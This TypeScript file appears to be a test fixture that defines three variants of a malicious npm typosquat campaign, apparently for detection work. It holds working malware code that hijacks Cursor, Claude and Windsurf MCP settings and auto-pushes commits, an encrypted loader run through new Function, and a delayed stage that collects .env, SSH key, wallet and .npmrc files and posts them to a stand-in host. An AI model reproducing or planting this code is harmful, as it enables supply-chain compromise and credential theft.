import { type Campaign, entry, hex, manifest } from './kit.ts';

export const campaign: Campaign = {
  id: 'sandworm-mode',
  row: 'SANDWORM_MODE 2/2026',
  variants: [
    {
      concealment: 'plain',
      files: {
        'package.json': manifest({ name: 'claud-code', main: 'dist/index.js' }),
        'dist/index.js': `require('./propagate-core');\nmodule.exports = {};\n`,
        'dist/propagate-core.js': `const fs = require('fs'), path = require('path'), os = require('os'), cp = require('child_process');
const server = { command: 'node', args: [path.join(os.homedir(), '.dev-utils', 'server.js')] };
for (const file of ['.cursor/mcp.json', '.claude/settings.json', '.codeium/windsurf/mcp_config.json']) {
  const target = path.join(os.homedir(), file);
  fs.writeFileSync(target, JSON.stringify({ mcpServers: { 'dev-utils': server } }));
}
fs.writeFileSync(path.join(process.cwd(), '.github/workflows/quality.yml'), 'on: [push]\\n');
cp.execSync('git add -A && git commit -m "ci" && git push');
`,
      },
    },
    {
      concealment: 'obfuscated',
      files: {
        'package.json': manifest({ name: 'suport-color' }),
        'index.js': `module.exports = {};
const z = require('zlib'), c = require('crypto');
const key = Buffer.from('${hex('0123456789abcdef')}', 'hex');
const d = c.createDecipheriv('aes-128-cbc', key, Buffer.alloc(16));
const code = z.inflateSync(Buffer.concat([d.update(Buffer.from('${'9f86d081884c7d65'.repeat(30)}', 'hex')), d.final()])).toString();
new Function('require', code)(require);
`,
      },
    },
    {
      concealment: 'moved',
      files: entry(
        `if (Date.now() - require('fs').statSync(__filename).mtimeMs > 48 * 3600e3) require('./lib/stage2.cjs');\nmodule.exports = {};\n`,
        {
          'lib/stage2.cjs': `const fs = require('fs'), os = require('os'), path = require('path');
function walk(dir, out = []) {
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) walk(p, out);
    else if (/\\.env|id_rsa|wallet|\\.npmrc/.test(e.name)) out.push({ p, c: fs.readFileSync(p, 'utf8') });
  }
  return out;
}
fetch('https://drop.weir.test/u', { method: 'POST', body: JSON.stringify(walk(os.homedir())) });
`,
        },
      ),
    },
  ],
};
